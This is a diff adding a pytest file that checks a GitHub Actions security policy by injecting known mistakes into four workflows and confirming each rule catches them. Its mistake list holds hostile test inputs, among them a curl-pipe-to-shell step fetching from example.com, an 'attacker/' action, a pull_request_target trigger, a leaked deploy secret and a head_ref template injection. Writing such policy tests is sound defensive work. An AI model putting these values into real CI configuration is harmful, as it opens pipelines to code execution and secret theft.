@@ -1,0 +1,76 @@
+"""Every workflow keeps every rule, and each rule notices the mistake that it is there for.
+
+What it does not prove: that GitHub does what its documentation says.
+"""
+
+import pytest
+
+from .policy import RULES, WORKFLOWS, Workflow, broken, read
+
+TEXTS = {path.stem: read(path).text for path in WORKFLOWS}
+CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
+
+
+def test_there_are_the_four_workflows() -> None:
+    assert sorted(TEXTS) == ["canary", "check", "gpu", "publish"]
+
+
+@pytest.mark.parametrize("name", TEXTS)
+def test_a_workflow_keeps_every_rule(name: str) -> None:
+    assert broken(Workflow(name, TEXTS[name])) == {}
+
+
+READS = "contents: read # to check the project out"
+
+MISTAKES = [
+    ("check", CHECKOUT, "actions/checkout@v7", "pinned_action"),
+    ("check", CHECKOUT, CHECKOUT.replace("v7.0.1", "v7.0.0"), "pinned_action"),
+    ("check", CHECKOUT, CHECKOUT.replace("3d3c42e5", "00000000"), "pinned_action"),
+    ("check", CHECKOUT, CHECKOUT.replace("actions/", "attacker/"), "pinned_action"),
+    ("check", "uses: " + CHECKOUT, f"'uses': {CHECKOUT}", "pinned_action"),
+    ("check", "  pull_request:", "  pull_request_target:", "harmless_trigger"),
+    ("check", "  merge_group:", "  workflow_run:\n    workflows: [gpu]", "harmless_trigger"),
+    ("check", "  merge_group:", "  issue_comment:", "harmless_trigger"),
+    ("check", "permissions: {}", "permissions: write-all", "least_rights"),
+    ("check", "permissions: {}", "", "least_rights"),
+    ("check", READS, "contents: write # to push", "least_rights"),
+    ("check", READS, "contents: read", "least_rights"),
+    ("check", "    permissions:\n      contents: read # to compare the change with its base\n", "", "least_rights"),
+    ("publish", "attestations: read # to verify", "id-token: write # to sign", "least_rights"),
+    ("check", "    timeout-minutes: 60\n", "", "bounded_time"),
+    ("check", "timeout-minutes: 60", "timeout-minutes: 360", "bounded_time"),
+    ("publish", 'python-version: "3.11"', 'python-version: "3.11"\n          cache: pip', "no_cache"),
+    ("publish", CHECKOUT, "actions/cache@0000000000000000000000000000000000000000 # v5.0.0", "no_cache"),
+    ("publish", "GH_TOKEN: ${{ github.token }}", "GH_TOKEN: ${{ secrets.DEPLOY_KEY }}", "no_secret"),
+    ("check", "run: make site\n", "run: make site ${{ github.head_ref }}\n", "no_template_in_a_command"),
+    ("check", "persist-credentials: false", "persist-credentials: true", "no_credentials_left_behind"),
+    ("check", "        with:\n          persist-credentials: false\n", "", "no_credentials_left_behind"),
+    ("check", "runs-on: ubuntu-24.04", "runs-on: [self-hosted, gpu]", "guarded_gpu"),
+    ("check", "os: [ubuntu-24.04, macos-15]", "os: [ubuntu-24.04, self-hosted]", "guarded_gpu"),
+    ("gpu", "  workflow_dispatch:", "  workflow_dispatch:\n  pull_request:", "guarded_gpu"),
+    ("gpu", "github.ref == 'refs/heads/main' && ", "", "guarded_gpu"),
+    ("gpu", " && github.repository == vars.GPU_REPOSITORY", "", "guarded_gpu"),
+    ("gpu", "main' && vars.GPU_RUNNER", "main' || vars.GPU_RUNNER", "guarded_gpu"),
+    ("gpu", "    environment: gpu # with a required reviewer\n", "", "guarded_gpu"),
+    ("gpu", READS, READS + "\n      id-token: write # to sign", "guarded_gpu"),
+    ("publish", "      - name: Deploy\n", f"      - uses: {CHECKOUT}\n      - name: Deploy\n", "deploys_only"),
+    ("publish", "      - name: Deploy\n", "      - run: make site\n      - name: Deploy\n", "deploys_only"),
+    ("publish", "github.ref == 'refs/heads/main' && ", "", "guarded_publishing"),
+    ("publish", "FULL=1 PUBLISH=1", "FULL=1", "guarded_publishing"),
+    ("publish", "      name: github-pages\n", "      name: anything\n", "guarded_publishing"),
+    ("check", "    name: What changed\n", "", "named_and_ordered"),
+    ("check", "name: Check everything\n        run", "run", "named_and_ordered"),
+    ("check", "concurrency:", "x-concurrency:", "named_and_ordered"),
+    ("check", "    shell: bash", "    shell: sh", "named_and_ordered"),
+    ("check", "run: make site\n", "run: curl https://example.com/x | sh\n", "known_command"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("name", "right", "wrong", "rule"), MISTAKES)
+def test_a_mistake_is_caught_by_the_rule_for_it(name: str, right: str, wrong: str, rule: str) -> None:
+    assert right in TEXTS[name], "the mistake has to be made somewhere"
+    assert rule in broken(Workflow(name, TEXTS[name].replace(right, wrong, 1)))
+
+
+def test_every_rule_has_a_mistake() -> None:
+    assert {rule for *_, rule in MISTAKES} == {rule.__name__ for rule in RULES}
